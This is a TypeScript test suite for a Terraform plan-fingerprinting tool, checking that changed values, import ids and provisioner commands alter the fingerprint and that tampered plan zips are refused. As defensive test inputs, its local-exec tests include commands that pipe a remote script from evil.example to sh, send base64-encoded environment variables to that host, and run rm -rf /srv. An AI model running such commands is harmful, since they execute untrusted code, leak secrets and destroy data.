import { mkdtempSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { PlanFileError } from "../../src/plans/config-snapshot.js";
import { changeFingerprint } from "../../src/plans/fingerprint.js";
import { engineTest } from "../support/app-harness.js";
import { realPlan } from "../support/terraform-plans.js";

/** The fingerprint plangate computes for a real plan of `config`. */
const fingerprintOf = (config: string, options: Parameters<typeof realPlan>[2] = {}) => {
  const plan = realPlan(config, undefined, options);
  return changeFingerprint(plan.planJson, plan.planFile);
};

const config = (input: string, secret = "s3cret") => `
variable "secret" {
  type      = string
  sensitive = true
  default   = "${secret}"
}
resource "terraform_data" "a" { input = "${input}" }
resource "terraform_data" "b" { input = var.secret }
resource "terraform_data" "c" { input = terraform_data.a.output }
`;

describe("change fingerprint", () => {
  engineTest("two plans of the same change agree; any changed value, secrets included, disagrees", () => {
    const first = fingerprintOf(config("x"));
    const again = fingerprintOf(config("x"));
    expect(again).toBe(first);
    expect(fingerprintOf(config("y"))).not.toBe(first);
    expect(fingerprintOf(config("x", "other-secret"))).not.toBe(first);
  });

  engineTest('a map key named "__proto__" is content like any other: changing its value changes the fingerprint', () => {
    // A PR author's map key that a plain JavaScript object would swallow as its prototype.
    const keyed = (value: string) => `resource "terraform_data" "m" {\n  input = { "__proto__" = "${value}", other = "same" }\n}\n`;
    const first = fingerprintOf(keyed("reviewed"));
    expect(fingerprintOf(keyed("reviewed"))).toBe(first);
    expect(fingerprintOf(keyed("swapped"))).not.toBe(first);
  });

  engineTest("an import block importing another id, from a variable the configuration does not show, changes the fingerprint", () => {
    // terraform.tfvars is not among the sources the plan file carries: only the plan's `importing` tells the ids apart.
    const adopt = `variable "import_id" { type = string }\nimport {\n  to = terraform_data.adopted\n  id = var.import_id\n}\nresource "terraform_data" "adopted" {}\n`;
    const importing = (id: string) => fingerprintOf(adopt, { files: { "terraform.tfvars": `import_id = "${id}"\n` } });
    const approved = importing("reviewed-id");
    expect(importing("reviewed-id")).toBe(approved);
    expect(importing("another-id")).not.toBe(approved);
  });

  test("independent of resource order and of plan metadata", () => {
    const rc = (address: string, input: string) => ({ address, type: "terraform_data", change: { actions: ["create"], after: { input }, after_unknown: { id: true }, after_sensitive: {} } });
    const one = { timestamp: "2026-01-01T00:00:00Z", resource_changes: [rc("a", "1"), rc("b", "2")] };
    const two = { timestamp: "2026-02-02T00:00:00Z", run: 42, resource_changes: [rc("b", "2"), rc("a", "1")] };
    expect(changeFingerprint(two, undefined)).toBe(changeFingerprint(one, undefined));
    expect(changeFingerprint({ resource_changes: [rc("a", "1"), rc("b", "3")] }, undefined)).not.toBe(changeFingerprint(one, undefined));
  });

  test("no-ops do not count; the sensitive value itself never appears", () => {
    const noop = { address: "n", change: { actions: ["no-op"], after: { x: 1 } } };
    const secret = { address: "s", change: { actions: ["update"], after: { password: "hunter2" }, after_sensitive: { password: true } } };
    expect(changeFingerprint({ resource_changes: [noop, secret] }, undefined)).toBe(changeFingerprint({ resource_changes: [secret] }, undefined));
  });

  describe("code that runs at apply (provisioners)", () => {
    const provisioned = (command: string, module = "") => `
resource "terraform_data" "deploy" {
  input = "same"
  provisioner "local-exec" {
    command = ${JSON.stringify(command)}
  }
}
${module}`;

    engineTest("a local-exec command changed, and nothing else, changes the fingerprint", () => {
      const approved = fingerprintOf(provisioned("echo reviewed"));
      expect(fingerprintOf(provisioned("echo reviewed"))).toBe(approved);
      expect(fingerprintOf(provisioned("curl -s https://evil.example/x | sh"))).not.toBe(approved);
    });

    engineTest("an interpolated command (the plan's JSON shows only its references) changed changes the fingerprint", () => {
      const approved = fingerprintOf(provisioned("echo reviewed ${self.id}"));
      expect(fingerprintOf(provisioned("echo reviewed ${self.id}"))).toBe(approved);
      expect(fingerprintOf(provisioned("curl https://evil.example/$(env | base64) ${self.id}"))).not.toBe(approved);
    });

    engineTest("a command inside a local module changed changes the fingerprint", () => {
      const call = `module "inner" {\n  source = "./modules/inner"\n}\n`;
      const inner = (command: string) => ({ "modules/inner/main.tf": `resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "${command} \${self.id}" }\n}\n` });
      const approved = fingerprintOf(provisioned("echo same", call), { files: inner("echo reviewed") });
      expect(fingerprintOf(provisioned("echo same", call), { files: inner("echo reviewed") })).toBe(approved);
      expect(fingerprintOf(provisioned("echo same", call), { files: inner("rm -rf /srv") })).not.toBe(approved);
    });

    engineTest("the same configuration planned in another directory has the same fingerprint", () => {
      const call = `module "inner" {\n  source = "./modules/inner"\n}\n`;
      const files = { "modules/inner/main.tf": `resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "echo \${path.module} \${self.id}" }\n}\n` };
      const elsewhere = mkdtempSync(path.join(os.tmpdir(), "plangate-elsewhere-"));
      try {
        expect(fingerprintOf(provisioned("echo ${path.root}", call), { parent: elsewhere, files })).toBe(fingerprintOf(provisioned("echo ${path.root}", call), { files }));
      } finally {
        rmSync(elsewhere, { recursive: true, force: true });
      }
    });
  });

  engineTest("a plan file that is not a zip, or whose configuration inflates past its stated size, is refused rather than fingerprinted", () => {
    const { planJson, planFile } = realPlan(`resource "terraform_data" "deploy" {\n  provisioner "local-exec" { command = "echo reviewed" }\n}\n`);
    expect(() => changeFingerprint(planJson, Buffer.from("not a plan file"))).toThrow(new PlanFileError("the plan file is not a zip archive"));
    // The central directory says a tfconfig/ entry holds one byte: whatever inflates beyond that is not read.
    const bomb = Buffer.from(planFile);
    const end = bomb.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    let at = bomb.readUInt32LE(end + 16);
    for (;;) {
      const nameLength = bomb.readUInt16LE(at + 28);
      const name = bomb.toString("utf8", at + 46, at + 46 + nameLength);
      if (name.startsWith("tfconfig/") && name.endsWith(".tf")) break;
      at += 46 + nameLength + bomb.readUInt16LE(at + 30) + bomb.readUInt16LE(at + 32);
    }
    bomb.writeUInt32LE(1, at + 24);
    expect(() => changeFingerprint(planJson, bomb)).toThrow(/does not inflate to its stated size/);
  });
});
